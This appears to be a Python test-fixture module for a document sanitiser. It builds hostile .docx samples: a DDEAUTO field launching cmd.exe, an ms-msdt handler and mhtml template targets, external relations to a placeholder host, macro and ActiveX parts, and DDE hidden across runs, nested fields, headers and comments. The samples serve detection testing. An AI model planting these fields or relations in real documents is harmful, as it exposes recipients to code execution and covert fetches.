"""Documents that reach outside themselves: other files, other machines, programs, macros, databases."""

from engine_docs import RELS, docx, para, row, run, table

from .making import Attack, changed, contents

PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_FETCHES, _CODE, _NESTED = "hämtar innehåll utifrån", "har fältkoden", "räknas fram av ett annat fält"
_MACROS, _PROGRAM = "makron", "inbäddat program"


def relations(*rows: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    """A document, with these relations where the part's name says."""
    before = contents(docx(para("x"))).get(part, f'<Relationships xmlns="{PACKAGE}"></Relationships>'.encode())
    return changed(**{part: before.replace(b"</Relationships>", "".join(rows).encode() + b"</Relationships>")})


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="out" Type="{RELS}{kind}" Target="{target}"{mode}/>'


def external(kind: str, target: str = "https://example.se/x") -> Attack:
    return Attack(lambda: relations(relation(kind, target)), _FETCHES)


BEGIN, END, SEPARATE = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end", "separate"))


def code(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def field(*inside: str) -> str:
    return BEGIN + "".join(each if each.startswith("<") else code(each) for each in inside) + END


def paragraph(*inside: str) -> Attack:
    return Attack(lambda: docx(f"<w:p>{''.join(inside)}</w:p>"), _CODE)


def nested(*inside: str) -> Attack:
    return Attack(lambda: docx(f"<w:p>{''.join(inside)}</w:p>"), _NESTED)


def in_part(name: str, content: str) -> Attack:
    return Attack(lambda: docx(para("x"), parts={name: content}), _CODE)


_SHELL = r" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "
DDE = f"<w:p>{field(_SHELL)}</w:p>"
BOX = (
    "<w:p><w:r><mc:AlternateContent><mc:Choice Requires='wps'><w:drawing><wps:txbx><w:txbxContent>{}</w:txbxContent>"
    "</wps:txbx></w:drawing></mc:Choice></mc:AlternateContent></w:r></w:p>"
)

OUTSIDE = {
    **{
        f"an external {kind}": external(kind)
        for kind in ("image", "oleObject", "package", "aFChunk", "subDocument", "frame", "video", "audio", "media")
    },
    **{
        f"an external {kind}": external(kind, "file:///C:/x")
        for kind in ("mailMergeSource", "mailMergeHeaderSource", "recipientData", "transform", "customXml", "font")
    },
    "an external template for styles": external("styles"),
    "an external header": external("header"),
    "a share without a mode": Attack(lambda: relations(relation("image", "\\\\host\\share\\x.png", "")), _FETCHES),
    "a web address without a mode": Attack(lambda: relations(relation("image", "https://example.se/x", "")), _FETCHES),
    "an address without a scheme": Attack(lambda: relations(relation("image", "//example.se/x", "")), _FETCHES),
    "a handler": external("image", "ms-msdt:/id"),
    "a template over mhtml": external("oleObject", "mhtml:https://example.se/x!x-usc:https://example.se/x"),
    "relations of a header": Attack(
        lambda: relations(relation("image", "https://example.se/x"), part="word/_rels/header1.xml.rels"), _FETCHES
    ),
    "relations of the package": Attack(
        lambda: relations(relation("image", "https://example.se/x"), part="_rels/.rels"), _FETCHES
    ),
    "relations in capital letters": Attack(
        lambda: relations(relation("image", "https://example.se/x"), part="word/_rels/header1.xml.RELS"), _FETCHES
    ),
    "all in capital letters": Attack(
        lambda: relations(relation("image", "https://example.se/x"), part="WORD/_RELS/HEADER1.XML.RELS"), _FETCHES
    ),
    "another file inside": Attack(lambda: relations(relation("aFChunk", "x.html", "")), "bäddar in en annan fil"),
    "a field in an address": Attack(
        lambda: relations(relation("hyperlink", "https://x/{{ x }}")), "adresser fylls inte i"
    ),
    "an attached template": Attack(
        lambda: docx(
            para("x"),
            parts={"settings": '<w:attachedTemplate xmlns:r="urn:r" r:id="out"/>'},
            files=contents(
                relations(
                    relation("attachedTemplate", "https://example.se/x.dotm"), part="word/_rels/settings.xml.rels"
                )
            )
            | {"word/_rels/document.xml.rels": b'<Relationships xmlns="%s"/>' % PACKAGE.encode()},
        ),
        text="x",
    ),
    "a mail merge over a database": Attack(
        lambda: docx(
            para("x"),
            parts={
                "settings": "<w:mailMerge><w:mainDocumentType w:val='formLetters'/><w:dataType w:val='odbc'/>"
                "<w:connectString w:val='DSN=x'/><w:query w:val='SELECT * FROM x'/></w:mailMerge>"
            },
        ),
        "kopplad till en datakälla",
    ),
    # Fields
    "DDEAUTO": Attack(lambda: docx(DDE), _CODE),
    "DDE": paragraph(field(" DDE excel x ")),
    "DDE in small letters": paragraph(field(" ddeauto x ")),
    "DDE after much space": paragraph(field(" \t\u00a0 DDE x ")),
    "DDE over three runs": paragraph(field("D", "D", "E x")),
    "DDE over paragraphs": Attack(lambda: docx(f"<w:p>{BEGIN}{code('DD')}</w:p><w:p>{code('E x')}{END}</w:p>"), _CODE),
    "DDE without an end": paragraph(BEGIN, code("DDE x")),
    "DDE without a beginning": paragraph(code("DDE x")),
    "DDE as a simple field": paragraph("<w:fldSimple w:instr=' DDEAUTO x '/>"),
    "DDE in deleted text": paragraph(
        f"<w:del w:id='1' w:author='x'>{BEGIN}<w:r><w:delInstrText>DDE x</w:delInstrText></w:r>{END}</w:del>"
    ),
    "DDE in another field": paragraph(field(" IF ", field(" DDE x "), " = 1 ")),
    "DDE in the result of another": paragraph(BEGIN, code("PAGE"), SEPARATE, field("DDE x"), END),
    "DDE in a table": Attack(lambda: docx(table(row(DDE.replace("<w:p>", "<w:p>"), "x"))), _CODE),
    "DDE in a header": in_part("header1", DDE),
    "DDE in a footer": in_part("footer1", DDE),
    "DDE in a footnote": in_part("footnotes", f'<w:footnote w:id="1">{DDE}</w:footnote>'),
    "DDE in a comment": in_part("comments", f'<w:comment w:id="1" w:author="x">{DDE}</w:comment>'),
    "DDE in a style's part": in_part("glossary", f"<w:docParts><w:docPart>{DDE}</w:docPart></w:docParts>"),
    "DDE in a text box": Attack(lambda: docx(BOX.format(DDE)), _CODE),
    "DDE in a content control": Attack(lambda: docx(f"<w:sdt><w:sdtContent>{DDE}</w:sdtContent></w:sdt>"), _CODE),
    "DDE spelt by another field": nested(field("D", field("QUOTE 68"), "E x")),
    "DDE spelt wholly by another": nested(field(field("QUOTE 68 68 69"), " x")),
    "INCLUDETEXT half spelt by another": nested(field("INCLUDE", field("QUOTE 84 69 88 84"), " x")),
    **{
        f"{word}": paragraph(field(f' {word} "https://example.se/x" '))
        for word in ("INCLUDETEXT", "INCLUDEPICTURE", "INCLUDE", "IMPORT", "LINK", "DATABASE")
    },
    "INCLUDEPICTURE over runs": paragraph(field("INCLUDE", "PICTURE x")),
    "a field in a field's code": Attack(lambda: docx(f"<w:p>{field('REF {{ x }}')}</w:p>"), "fältkod"),
    "a macro button": Attack(lambda: docx(f"<w:p>{field(' MACROBUTTON NoMacro [Skriv] ')}{run('x')}</w:p>"), text="x"),
    "a sum of a field": Attack(lambda: docx(f"<w:p>{field('=', field('PAGE'), '-1')}{run('x')}</w:p>"), text="x"),
    "a condition on a field": Attack(
        lambda: docx(f"<w:p>{field('IF', field('PAGE'), ' = 1 a b')}{run('x')}</w:p>"), text="x"
    ),
    # Programs
    ".docm": Attack(lambda: docx(para("x"), kind="application/vnd.ms-word.document.macroEnabled.main+xml"), _MACROS),
    ".dotm": Attack(
        lambda: docx(para("x"), kind="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"), _MACROS
    ),
    "macros in a .docx": Attack(lambda: docx(para("x"), files={"word/vbaProject.bin": b"x"}), _MACROS),
    "macros in capital letters": Attack(lambda: docx(para("x"), files={"WORD/VBAPROJECT.BIN": b"x"}), _MACROS),
    "macros by another name": Attack(lambda: relations(relation("vbaProject", "other.bin", "")), _PROGRAM),
    "macros by their own relation": Attack(
        lambda: relations(
            '<Relationship Id="out" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="other.bin"/>'
        ),
        _PROGRAM,
    ),
    "ActiveX": Attack(lambda: relations(relation("control", "activeX/activeX1.xml", "")), _PROGRAM),
    "an OLE object": Attack(lambda: relations(relation("oleObject", "embeddings/oleObject1.bin", "")), _PROGRAM),
}
